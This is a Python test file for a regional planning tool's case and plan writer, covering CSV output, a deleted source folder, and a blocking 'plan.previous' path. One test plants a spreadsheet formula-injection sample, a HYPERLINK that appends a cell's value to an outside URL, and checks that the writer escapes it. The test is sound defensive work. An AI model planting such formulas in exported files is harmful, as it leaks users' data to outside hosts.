"""The input beside a plan, and what is in the way of writing one."""

import shutil
from pathlib import Path

import pytest
from tiny import write_tiny_region

from geodata.faults import InputError
from geodata.tables import read_table
from models.region.read_region import read_region
from reports.folder.case import write_case
from reports.folder.folder import check_writable

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


def test_no_spreadsheet_finds_a_formula_in_the_case(tmp_path: Path) -> None:
    """A name that a program would run gets an apostrophe and reads back; other tables keep their bytes."""
    folder = write_tiny_region(tmp_path / "region")
    sites = folder / "sites.csv"
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    sites.write_text(sites.read_text(encoding="utf-8").replace("Site one", quoted), encoding="utf-8")
    region = read_region(folder)
    write_case(region, tmp_path / "case")
    raw = (tmp_path / "case" / "sites.csv").read_text(encoding="utf-8")
    assert f'"\'{FORMULA.replace('"', '""')}"' in raw
    assert read_table(tmp_path / "case" / "sites.csv", []).loc[2, "name"] == FORMULA
    assert read_region(tmp_path / "case").sites.loc["S1", "name"] == region.sites.loc["S1", "name"] == FORMULA
    assert (tmp_path / "case" / "clients.csv").read_bytes() == (folder / "clients.csv").read_bytes()


def test_a_region_whose_folder_is_gone_is_written_all_the_same(tmp_path: Path) -> None:
    """It was moved or on a stick that was taken out during the solve: the case has what was read."""
    folder = write_tiny_region(tmp_path / "region")
    region = read_region(folder)
    content = (folder / "clients.csv").read_bytes()
    shutil.rmtree(folder)
    write_case(region, tmp_path / "case")
    assert (tmp_path / "case" / "clients.csv").read_bytes() == content
    assert read_region(tmp_path / "case").parameters == region.parameters


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_what_is_in_the_way_is_told_before_a_plan_is_made(tmp_path: Path, kind: str) -> None:
    """The plan that is replaced is kept as .previous meanwhile; somebody's own work of that name stays."""
    mine = tmp_path / "plan.previous"
    if kind == "folder":
        mine.mkdir()
        (mine / "notes.txt").write_text("mine", encoding="utf-8")
    else:
        mine.write_text("mine", encoding="utf-8")
    with pytest.raises(InputError, match=r"plan\.previous.*Move plan\.previous elsewhere") as told:
        check_writable(tmp_path / "plan")
    assert told.value.faults[0].file == str(mine)
    assert [path.name for path in tmp_path.iterdir() if not path.name.endswith(".lock")] == ["plan.previous"]
